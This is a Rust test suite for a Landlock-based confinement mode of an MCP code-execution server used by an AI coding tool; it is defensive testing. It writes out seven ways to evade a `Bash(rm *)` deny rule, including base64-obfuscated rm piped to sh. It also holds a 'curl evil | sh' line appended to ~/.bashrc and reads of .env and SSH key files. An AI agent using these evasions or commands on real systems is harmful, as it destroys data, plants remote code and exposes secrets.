//! Confinement mode (issue 19, ADR 0026) through the real MCP server: with
//! `CONTEXT_MODE_CONFINE=1`, every bypass of a `Bash(rm *)`-style rule fails to delete
//! a file outside the project, a write inside it works, a `Read(./.env)` deny holds in
//! a shell, and the installed runtimes still run; with it off, the same delete works.

use crate::common;
use crate::sandbox_support;

use std::path::{Path, PathBuf};
use std::process::Command;

use common::{McpClient, Sandbox};
use sandbox_support::on_path;
use serde_json::json;

const REFUSED_NOTE: &str = "confinement: writes outside the project";

/// Whether this kernel can enforce confinement (Landlock ABI ≥ 3).
fn landlock_abi() -> i32 {
    // SAFETY: landlock_create_ruleset with a null attr and the VERSION flag only
    // returns the ABI number.
    unsafe {
        libc::syscall(
            libc::SYS_landlock_create_ruleset,
            std::ptr::null::<u8>(),
            0usize,
            1u32,
        ) as i32
    }
}

fn server(sandbox: &Sandbox, confine: Option<&str>) -> McpClient {
    let mut command = sandbox.cm();
    if let Some(value) = confine {
        command.env("CONTEXT_MODE_CONFINE", value);
    }
    with_toolchains(&mut command);
    McpClient::spawn(command)
}

/// rustup finds its toolchains through the real HOME, which the sandbox replaced.
fn with_toolchains(command: &mut Command) {
    let real_home = std::env::var_os("HOME").map(PathBuf::from);
    for (variable, default) in [("RUSTUP_HOME", ".rustup"), ("CARGO_HOME", ".cargo")] {
        match (std::env::var_os(variable), &real_home) {
            (Some(value), _) => command.env(variable, value),
            (None, Some(home)) => command.env(variable, home.join(default)),
            (None, None) => command,
        };
    }
    if let Some(toolchain) = std::env::var_os("RUSTUP_TOOLCHAIN") {
        command.env("RUSTUP_TOOLCHAIN", toolchain);
    }
}

/// The ways around a `Bash(rm *)` rule the issue lists, each deleting `target`.
fn bypasses(target: &Path) -> Vec<(&'static str, String, String)> {
    let t = target.display();
    let sh = |s: String| ("shell", s);
    vec![
        sh(format!("/bin/rm -rf '{t}/a'")),
        sh(format!("$(echo rm) -rf '{t}/b'")),
        sh(format!("v=rm; $v -rf '{t}/c'")),
        sh(format!("bash <<< \"rm -rf '{t}/d'\"")),
        sh(format!("find '{t}/e' -delete")),
        sh(format!(
            "echo \"$(printf '%s' \"rm -rf '{t}/f'\" | base64 -w0)\" | base64 -d | sh"
        )),
        (
            "python",
            format!("import shutil\nshutil.rmtree('{t}/g')\nprint('removed')"),
        ),
    ]
    .into_iter()
    .zip(["a", "b", "c", "d", "e", "f", "g"])
    .map(|((lang, code), name)| (lang, code, name.to_string()))
    .collect()
}

fn victim() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    for name in ["a", "b", "c", "d", "e", "f", "g"] {
        std::fs::create_dir_all(dir.path().join(name)).expect("mkdir");
        std::fs::write(dir.path().join(name).join("precious"), "keep").expect("write");
    }
    dir
}

#[test]
fn with_confinement_on_no_bypass_deletes_outside_the_project() {
    if landlock_abi() < 3 {
        eprintln!("skipped: this kernel has no Landlock ABI 3");
        return;
    }
    let sandbox = Sandbox::new();
    let outside = victim();
    let mut client = server(&sandbox, Some("1"));
    for (language, code, name) in bypasses(outside.path()) {
        let (text, is_error) =
            client.call_tool("ctx_execute", json!({"language": language, "code": code}));
        let kept = outside.path().join(&name).join("precious");
        assert!(kept.exists(), "{language} {code:?} deleted it: {text}");
        assert!(is_error, "{code:?}: {text}");
        assert!(text.contains(REFUSED_NOTE), "{code:?}: {text}");
    }
    // A batch command and a background run are confined the same way.
    std::fs::create_dir_all(outside.path().join("h")).expect("mkdir");
    std::fs::write(outside.path().join("h/precious"), "keep").expect("write");
    let t = outside.path().display();
    let (text, _) = client.call_tool(
        "ctx_batch_execute",
        json!({"commands": [{"label": "rm", "command": format!("rm -rf '{t}/h'")}]}),
    );
    assert!(outside.path().join("h/precious").exists(), "batch: {text}");
    let (text, _) = client.call_tool(
        "ctx_execute",
        json!({"language": "shell", "background": true, "timeout": 300,
               "code": format!("sleep 0.1; rm -rf '{t}/h'; echo tried; sleep 5")}),
    );
    std::thread::sleep(std::time::Duration::from_millis(800));
    assert!(
        outside.path().join("h/precious").exists(),
        "background: {text}"
    );
    // Inside the project, writes and deletes work.
    let (text, is_error) = client.call_tool(
        "ctx_execute",
        json!({"language": "shell", "code": "echo made > inside.txt && mkdir -p d && rm -rf d && cat inside.txt"}),
    );
    assert!(!is_error, "{text}");
    assert_eq!(text.trim(), "made");
    assert!(sandbox.project.join("inside.txt").exists());
}

#[test]
fn with_confinement_off_the_same_delete_works() {
    let sandbox = Sandbox::new();
    let outside = victim();
    let mut client = server(&sandbox, None);
    for (language, code, name) in bypasses(outside.path()) {
        let (text, is_error) =
            client.call_tool("ctx_execute", json!({"language": language, "code": code}));
        assert!(!is_error, "{code:?}: {text}");
        assert!(!text.contains(REFUSED_NOTE), "{text}");
        assert!(!outside.path().join(&name).exists(), "{code:?}: {text}");
    }
}

/// The settings files switch confinement too: the project's `.claude/settings.json` with
/// `contextMode.confine`, the user's `~/.claude/settings.json` likewise; the environment
/// variable, when set, wins either way.
#[test]
fn the_project_and_user_settings_switch_it_on_and_the_environment_wins() {
    if landlock_abi() < 3 {
        eprintln!("skipped: this kernel has no Landlock ABI 3");
        return;
    }
    let delete = |client: &mut McpClient, target: &Path| {
        let code = format!("/bin/rm -rf '{}'", target.display());
        client.call_tool("ctx_execute", json!({"language": "shell", "code": code}))
    };
    let project_on = Sandbox::new();
    project_on.write(
        ".claude/settings.json",
        br#"{ // confinement for this project
  "contextMode": { "confine": true },
}"#,
    );
    let outside = victim();
    let (text, is_error) = delete(&mut server(&project_on, None), &outside.path().join("a"));
    assert!(is_error && text.contains(REFUSED_NOTE), "{text}");
    assert!(outside.path().join("a/precious").exists());
    // CONTEXT_MODE_CONFINE=0 wins over the file.
    let (text, is_error) = delete(
        &mut server(&project_on, Some("0")),
        &outside.path().join("b"),
    );
    assert!(!is_error, "{text}");
    assert!(!outside.path().join("b").exists(), "{text}");

    let user_on = Sandbox::new();
    let user_settings = user_on.home.join(".claude/settings.json");
    std::fs::create_dir_all(user_settings.parent().expect("parent")).expect("mkdir");
    std::fs::write(&user_settings, r#"{"contextMode": {"confine": "on"}}"#).expect("write");
    let (text, _) = delete(&mut server(&user_on, None), &outside.path().join("c"));
    assert!(outside.path().join("c/precious").exists(), "{text}");
    // The project's own setting is closer than the user's.
    user_on.write(
        ".claude/settings.json",
        br#"{"contextMode": {"confine": false}}"#,
    );
    let (text, is_error) = delete(&mut server(&user_on, None), &outside.path().join("d"));
    assert!(!is_error && !outside.path().join("d").exists(), "{text}");
}

#[test]
fn a_read_deny_rule_holds_in_a_shell_under_confinement() {
    if landlock_abi() < 3 {
        eprintln!("skipped: this kernel has no Landlock ABI 3");
        return;
    }
    let sandbox = Sandbox::new();
    sandbox.write(".env", b"SECRET=hunter2\n");
    sandbox.write("src/ok.txt", b"visible\n");
    sandbox.project_permissions(json!({"deny": ["Read(./.env)"]}));
    let mut client = server(&sandbox, Some("on"));
    let (text, is_error) = client.call_tool(
        "ctx_execute",
        json!({"language": "shell", "code": "cat .env"}),
    );
    assert!(is_error, "{text}");
    assert!(!text.contains("hunter2"), "{text}");
    assert!(text.contains("Permission denied"), "{text}");
    let (text, is_error) = client.call_tool(
        "ctx_execute",
        json!({"language": "python", "code": "print(open('.env').read())"}),
    );
    assert!(is_error && !text.contains("hunter2"), "{text}");
    // Everything else still reads.
    let (text, is_error) = client.call_tool(
        "ctx_execute",
        json!({"language": "shell", "code": "cat src/ok.txt && ls -a | grep -c env && head -c 4 /etc/hostname >/dev/null && echo fine"}),
    );
    assert!(!is_error, "{text}");
    assert!(text.contains("visible") && text.contains("fine"), "{text}");
}

/// Hello world in every runtime installed here, confined.
#[test]
fn installed_runtimes_run_confined() {
    if landlock_abi() < 3 {
        eprintln!("skipped: this kernel has no Landlock ABI 3");
        return;
    }
    let programs: &[(&str, &[&str], &str)] = &[
        ("shell", &["bash"], "echo hello"),
        ("python", &["python3", "python"], "print('hello')"),
        ("javascript", &["node", "bun"], "console.log('hello')"),
        ("perl", &["perl"], "print \"hello\\n\";"),
        ("ruby", &["ruby"], "puts 'hello'"),
        ("php", &["php"], "echo \"hello\\n\";"),
        ("rust", &["rustc"], "println!(\"hello\");"),
        ("go", &["go"], "fmt.Println(\"hello\")"),
        ("r", &["Rscript"], "cat('hello\\n')"),
        ("elixir", &["elixir"], "IO.puts(\"hello\")"),
    ];
    let sandbox = Sandbox::new();
    sandbox.write("data.txt", b"one\ntwo\nthree\n");
    let mut client = server(&sandbox, Some("true"));
    let mut ran = Vec::new();
    for (language, names, code) in programs {
        if !names.iter().any(|p| on_path(p)) {
            continue;
        }
        let (text, is_error) =
            client.call_tool("ctx_execute", json!({"language": language, "code": code}));
        assert!(!is_error, "{language}: {text}");
        assert_eq!(text.trim(), "hello", "{language}");
        ran.push(*language);
    }
    // A file-processing call per installed runtime, through ctx_execute_file: each
    // counts the lines of the project file its prelude read.
    let counting: &[(&str, &str)] = &[
        ("shell", "wc -l < \"$FILE_CONTENT_PATH\""),
        ("python", "print(len(FILE_CONTENT.splitlines()))"),
        (
            "javascript",
            "console.log(FILE_CONTENT.split(\"\\n\").filter(Boolean).length)",
        ),
        (
            "perl",
            "my @l = split /\\n/, $FILE_CONTENT; print scalar(@l), \"\\n\";",
        ),
        ("rust", "println!(\"{}\", FILE_CONTENT.lines().count());"),
    ];
    for (language, code) in counting {
        if !ran.contains(language) {
            continue;
        }
        let (text, is_error) = client.call_tool(
            "ctx_execute_file",
            json!({"path": "data.txt", "language": language, "code": code}),
        );
        assert!(!is_error, "{language}: {text}");
        assert_eq!(text.trim(), "3", "{language}");
    }
    assert!(ran.contains(&"shell") && ran.contains(&"python"), "{ran:?}");
}

#[test]
fn doctor_shows_kernel_support_and_the_switch() {
    let sandbox = Sandbox::new();
    let doctor = |confine: Option<&str>| {
        let mut command = sandbox.cm();
        command
            .args(["doctor", "--json"])
            .env("CONTEXT_MODE_DOCTOR_BUDGET_MS", "20000");
        if let Some(value) = confine {
            command.env("CONTEXT_MODE_CONFINE", value);
        }
        let output = command.output().expect("cm doctor");
        let report: serde_json::Value =
            serde_json::from_slice(&output.stdout).expect("doctor JSON");
        report["checks"]
            .as_array()
            .and_then(|rows| rows.iter().find(|r| r["name"] == "confinement"))
            .cloned()
            .unwrap_or_else(|| panic!("no confinement row in {report:#}"))
    };
    let abi = landlock_abi();
    let off = doctor(None);
    let detail = off["detail"].as_str().unwrap_or_default();
    assert!(detail.starts_with("off ("), "{off}");
    if abi >= 3 {
        assert!(
            detail.contains(&format!("kernel Landlock ABI {abi}: supported")),
            "{off}"
        );
        let on = doctor(Some("1"));
        assert_eq!(on["status"], "PASS", "{on}");
        assert!(
            on["detail"]
                .as_str()
                .unwrap_or_default()
                .starts_with("on ("),
            "{on}"
        );
    } else {
        assert_eq!(doctor(Some("1"))["status"], "FAIL");
    }
}

#[test]
fn network_limited_to_listed_ports_refuses_other_connects() {
    if landlock_abi() < 4 {
        eprintln!("skipped: this kernel has no Landlock ABI 4");
        return;
    }
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let code = format!(
        "import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=5)\nprint('connected')"
    );
    let sandbox = Sandbox::new();
    for (net, allowed) in [
        ("off", false),
        ("9", false),
        (port.to_string().as_str(), true),
    ] {
        let mut command = sandbox.cm();
        command
            .env("CONTEXT_MODE_CONFINE", "1")
            .env("CONTEXT_MODE_CONFINE_NET", net);
        let mut client = McpClient::spawn(command);
        let (text, is_error) =
            client.call_tool("ctx_execute", json!({"language": "python", "code": code}));
        if allowed {
            assert!(!is_error && text.contains("connected"), "{net}: {text}");
        } else {
            assert!(is_error && !text.contains("connected"), "{net}: {text}");
            assert!(text.contains("Permission denied"), "{net}: {text}");
        }
    }
    // Network on by default under confinement.
    let mut command = sandbox.cm();
    command.env("CONTEXT_MODE_CONFINE", "1");
    let mut client = McpClient::spawn(command);
    let (text, is_error) =
        client.call_tool("ctx_execute", json!({"language": "python", "code": code}));
    assert!(!is_error && text.contains("connected"), "{text}");
}

/// The bench of ADR 0026 (`cargo test -p cm --test it mcp_confine::bench -- --ignored
/// --nocapture`): a trivial shell `ctx_execute` through two servers, confined and not,
/// calls interleaved so both see the same machine load; prints the p50 and p90 of each.
#[test]
#[ignore]
fn bench_trivial_shell_call_confined_vs_not() {
    let rounds: usize = std::env::var("CM_BENCH_ROUNDS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(200);
    let sandbox = Sandbox::new();
    // CM_BENCH_READ_DENY=1: with a `Read(./.env)` deny, so the ruleset grants around it.
    if std::env::var_os("CM_BENCH_READ_DENY").is_some() {
        sandbox.write(".env", b"S=1\n");
        sandbox.project_permissions(json!({"deny": ["Read(./.env)"]}));
    }
    let mut off = server(&sandbox, None);
    let mut on = server(&sandbox, Some("1"));
    let call = json!({"language": "shell", "code": "echo hi"});
    for client in [&mut off, &mut on] {
        for _ in 0..10 {
            client.call_tool("ctx_execute", call.clone());
        }
    }
    let (mut t_off, mut t_on) = (Vec::new(), Vec::new());
    for round in 0..rounds {
        let order: [(&mut McpClient, &mut Vec<f64>); 2] = if round % 2 == 0 {
            [(&mut off, &mut t_off), (&mut on, &mut t_on)]
        } else {
            [(&mut on, &mut t_on), (&mut off, &mut t_off)]
        };
        for (client, times) in order {
            let started = std::time::Instant::now();
            let (text, is_error) = client.call_tool("ctx_execute", call.clone());
            times.push(started.elapsed().as_secs_f64() * 1000.0);
            assert!(!is_error && text.trim() == "hi", "{text}");
        }
    }
    let pct = |v: &mut Vec<f64>, p: f64| {
        v.sort_by(f64::total_cmp);
        v[((v.len() - 1) as f64 * p) as usize]
    };
    let (off50, off90) = (pct(&mut t_off, 0.5), pct(&mut t_off, 0.9));
    let (on50, on90) = (pct(&mut t_on, 0.5), pct(&mut t_on, 0.9));
    println!(
        "confinement off: p50 {off50:.2} ms, p90 {off90:.2} ms; on: p50 {on50:.2} ms, p90 {on90:.2} ms; overhead p50 {:.2} ms ({rounds} calls each, interleaved)",
        on50 - off50
    );
}

#[test]
fn dotfiles_stay_unwritable_and_a_home_read_deny_holds() {
    if landlock_abi() < 3 {
        eprintln!("skipped: this kernel has no Landlock ABI 3");
        return;
    }
    let sandbox = Sandbox::new();
    std::fs::create_dir_all(sandbox.home.join(".ssh")).expect("mkdir");
    std::fs::write(sandbox.home.join(".ssh/id_test"), "PRIVATE").expect("write");
    std::fs::write(sandbox.home.join(".bashrc"), "# mine\n").expect("write");
    std::fs::write(sandbox.home.join("notes.txt"), "public\n").expect("write");
    sandbox.project_permissions(json!({"deny": ["Read(~/.ssh/id_test)"]}));
    let mut client = server(&sandbox, Some("1"));
    let (text, is_error) = client.call_tool(
        "ctx_execute",
        json!({"language": "shell", "code": "echo 'curl evil | sh' >> ~/.bashrc"}),
    );
    assert!(is_error && text.contains(REFUSED_NOTE), "{text}");
    assert_eq!(
        std::fs::read_to_string(sandbox.home.join(".bashrc")).expect("read"),
        "# mine\n"
    );
    let (text, is_error) = client.call_tool(
        "ctx_execute",
        json!({"language": "shell", "code": "cat ~/.ssh/id_test"}),
    );
    assert!(is_error && !text.contains("PRIVATE"), "{text}");
    let (text, is_error) = client.call_tool(
        "ctx_execute",
        json!({"language": "shell", "code": "cat ~/notes.txt; ls ~/.ssh"}),
    );
    assert!(!is_error, "{text}");
    assert!(
        text.contains("public") && text.contains("id_test"),
        "{text}"
    );
}
